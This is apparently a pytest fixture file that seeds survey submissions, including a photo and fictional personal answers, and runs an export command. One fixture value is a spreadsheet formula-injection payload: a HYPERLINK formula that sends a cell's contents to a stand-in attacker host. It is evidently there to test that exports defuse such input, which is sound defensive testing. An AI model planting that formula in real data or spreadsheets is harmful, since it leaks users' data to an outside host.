"""Submissions to export, stored through the real API: two promoter interviews (one with
consent and personal answers, a photo and a formula-like answer) and one resident feedback."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from helpers import feedback_item, household_item

JPEG = b"\xff\xd8\xff\xe0" + b"unfinished water tank" * 50
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ver")'


def store(client, headers, *items) -> None:
    response = client.post("/api/v1/submissions", json={"submissions": list(items)},
                           headers=headers)
    outcomes = [r["outcome"] for r in response.get_json()["results"]]
    assert outcomes == ["stored"] * len(items), response.get_json()


@pytest.fixture
def seeded(client, demo, device_headers, link_headers):
    sha = hashlib.sha256(JPEG).hexdigest()
    assert client.put(f"/api/v1/attachments/{sha}", data=JPEG, headers=device_headers,
                      content_type="image/jpeg").status_code == 201
    with_personal = household_item(answers={
        "district": "180101", "community": "Añaschaca Ñuñunhuayo", "household_size": 4,
        "water_problems": ["tank", "pipe"], "problem_photo": sha, "consent": "yes",
        "respondent_name": "María Quispe", "respondent_phone": "987654321"},
        attachments=[sha])
    formula = household_item(answers={"district": "180201", "community": FORMULA,
                                      "household_size": 7})
    formula["meta"]["language"] = "es"
    store(client, device_headers, with_personal, formula)
    feedback = feedback_item()
    store(client, link_headers, feedback)
    return {"sha": sha, "photo": JPEG, "personal": with_personal, "formula": formula,
            "feedback": feedback}


@pytest.fixture
def export(runner, tmp_path):
    """export("--survey", "moq-household", ...) -> the bytes `willay export` wrote."""

    def run(*args: str, expect_ok: bool = True) -> bytes:
        target = Path(tmp_path) / "out.bin"
        result = runner.invoke(args=["export", "--output", str(target), *args])
        if not expect_ok:
            assert result.exit_code != 0
            return result.output.encode()
        assert result.exit_code == 0, result.output
        return target.read_bytes()

    return run
